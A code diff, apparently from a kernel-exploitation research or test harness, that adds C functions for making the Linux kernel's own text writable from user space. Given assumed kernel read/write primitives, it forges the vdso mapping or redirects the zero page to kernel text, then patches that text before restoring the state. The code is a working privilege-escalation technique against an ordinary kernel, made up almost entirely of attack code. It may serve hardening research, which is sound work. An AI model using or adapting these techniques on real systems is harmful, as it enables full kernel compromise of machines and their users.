@@ -4,6 +4,7 @@
  * ordinary data and maps it for the attacker. Here it is a page table of his
  * own, which he then writes from user space.
  */
+#include <errno.h>
 #include <stddef.h>
 #include <stdio.h>
 #include <string.h>
@@ -74,6 +75,58 @@ enum outcome vdso_page(void)
 	kwrite64(old.pointer_slot, old.pointer);
 	kwrite64(old.vma + VMA_PROT, old.protection);
 	return judge_secret(text, err);
+}
+
+/* The kernel's own text, which the user may then write. */
+static uint64_t page_of_text(void)
+{
+	struct slot slot;
+
+	return kwalk(text_address(), LEAF, 0, &slot) ? 0 : slot.page;
+}
+
+static char *in_page(volatile void *page)
+{
+	return (char *)page + text_address() % PAGE_SIZE;
+}
+
+enum outcome vdso_text(void)
+{
+	void *vdso = (void *)getauxval(AT_SYSINFO_EHDR);
+	uint64_t page = page_of_text();
+	struct changed_vma old;
+	enum outcome outcome;
+
+	if (!page || !find_vdso(vdso, &old))
+		return broken("no mapping of the vdso, or no kernel text found");
+	forge_special_mapping(&old, page);
+	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
+	outcome = patch_text_in_user_mapping(in_page(vdso));
+	madvise(vdso, PAGE_SIZE, MADV_DONTNEED);
+	kwrite64(old.pointer_slot, old.pointer);
+	kwrite64(old.vma + VMA_PROT, old.protection);
+	return outcome;
+}
+
+enum outcome zero_page_text(void)
+{
+	uint64_t number = ksymbol("zero_pfn"), phys = text_phys(), old, vma;
+	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
+				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	enum outcome outcome;
+
+	vma = find_vma(page);
+	if (!number || !phys || !vma)
+		return broken("no zero page, or no kernel text");
+	old = kread64(number);
+	kwrite64(vma + VMA_PROT, writable_protection());
+	kwrite64(number, phys / PAGE_SIZE);
+	(void)page[0];	/* a fault that reads maps what is there */
+	outcome = patch_text_in_user_mapping(in_page(page));
+	madvise((void *)page, PAGE_SIZE, MADV_DONTNEED);
+	kwrite64(number, old);
+	munmap((void *)page, PAGE_SIZE);
+	return outcome;
 }
 
 /* While the zero page is another one nobody may unmap the real one. */
